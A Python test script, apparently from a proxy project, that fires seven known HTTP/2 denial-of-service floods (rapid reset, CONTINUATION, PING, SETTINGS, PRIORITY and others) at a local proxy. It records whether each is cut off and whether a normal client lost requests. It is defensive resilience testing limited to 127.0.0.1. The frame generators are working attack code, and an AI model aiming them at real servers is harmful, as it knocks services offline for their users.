#!/usr/bin/env python3
"""Public attacks on HTTP/2, one after the other, each on one TLS connection to a proxy on this machine.

  ./portcullis run --config my.yml &            # any configuration with TLS and a server that answers
  bench/attacks/attack.py 8443 --pid $!         # the port on 127.0.0.1; --pid shows the memory of the process

Prints for each attack how much of it was taken and with what the proxy ended it. With h2load on PATH (Debian: nghttp2-client) a
well-behaved client makes --rate calls a second beside all of them, and what it lost is printed; the exit code is 1 when that is
anything, or when an attack was not cut. Standard library only; bounded in count and time.
"""
import argparse, shutil, socket, ssl, struct, subprocess, sys, tempfile

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 7, 8, 9
END_HEADERS = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


HEAD = b"\x83\x87" + literal(b":path", b"/a.B/C") + literal(b":authority", b"x") + literal(b"content-type", b"application/grpc")
ODD = range(1, 20_001, 2)


def rapid_reset():
    for stream in ODD:
        yield frame(HEADERS, END_HEADERS, stream, HEAD) + frame(RST_STREAM, 0, stream, struct.pack(">I", 8))


def made_you_reset():
    for stream in ODD:
        yield frame(HEADERS, END_HEADERS, stream, HEAD) + frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))


def ping_flood():
    for n in range(20_000):
        yield frame(PING, 0, 0, struct.pack(">Q", n))


def settings_flood():
    for n in range(20_000):
        yield frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535 + n % 2))


def empty_data():
    yield frame(HEADERS, END_HEADERS, 1, HEAD)
    for _ in range(50_000):
        yield frame(DATA, 0, 1)


def continuation_flood():
    yield frame(HEADERS, 0, 1, HEAD)
    for n in range(50_000):
        yield frame(CONTINUATION, 0, 1, literal(b"x-%05d" % n, b"v" * 50))


def priority_flood():
    for stream in range(1, 100_001, 2):
        yield frame(PRIORITY, 0, stream, struct.pack(">IB", 0, 16))


ATTACKS = [rapid_reset, made_you_reset, ping_flood, settings_flood, empty_data, continuation_flood, priority_flood]


def connect(port):
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    sock = context.wrap_socket(socket.create_connection(("127.0.0.1", port), 5), server_hostname="localhost")
    sock.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))
    return sock


def goaway(sock):
    """The code and words of the GOAWAY among what the proxy sent before it closed, or None."""
    sock.settimeout(5)
    got = b""
    try:
        while part := sock.recv(65_536):
            got += part
    except OSError:
        pass
    at, found = 0, None
    while at + 9 <= len(got):
        length = int.from_bytes(got[at : at + 3], "big")
        if got[at + 3] == GOAWAY:
            payload = got[at + 9 : at + 9 + length]
            found = (int.from_bytes(payload[4:8], "big"), payload[8:].decode("utf-8", "replace"))
        at += 9 + length
    return found


def attack(port, frames):
    sock, taken = connect(port), 0
    try:
        for chunk in frames:
            sock.sendall(chunk)
            taken += 1
    except OSError:
        pass
    return taken, goaway(sock)


def resident_mib(pid):
    with open(f"/proc/{pid}/status") as status:
        return next(int(line.split()[1]) for line in status if line.startswith("VmRSS")) // 1024


def main():
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("port", type=int)
    parser.add_argument("--pid", type=int)
    parser.add_argument("--rate", type=int, default=200)
    parser.add_argument("--seconds", type=int, default=20)
    options = parser.parse_args()
    before = resident_mib(options.pid) if options.pid else 0
    with tempfile.NamedTemporaryFile() as message:
        message.write(b"\0" + struct.pack(">I", 100) + bytes(100))
        message.flush()
        good = None
        if shutil.which("h2load"):
            command = ["h2load", "-t1", "-c1", "-m10", f"--rps={options.rate}", f"-n{options.rate * options.seconds}", "-d", message.name]
            command += ["-H", ":method: POST", "-H", "content-type: application/grpc", f"https://127.0.0.1:{options.port}/s.S/M"]
            good = subprocess.Popen(command, stdout=subprocess.PIPE, text=True)
        uncut = 0
        for run in ATTACKS:
            taken, end = attack(options.port, run())
            uncut += end is None
            print(f"{run.__name__:20} chunks taken {taken:6}  GOAWAY {end}", flush=True)
        lost = 0
        if good:
            lines = good.communicate(timeout=options.seconds * 3)[0].splitlines()
            totals = next((line for line in lines if line.startswith("requests:")), "requests: none")
            print("good client:", totals)
            lost = 0 if " 0 failed, 0 errored, 0 timeout" in totals else 1
    if options.pid:
        print(f"resident: {before} MiB before, {resident_mib(options.pid)} MiB after")
    sys.exit(1 if uncut or lost else 0)


if __name__ == "__main__":
    main()
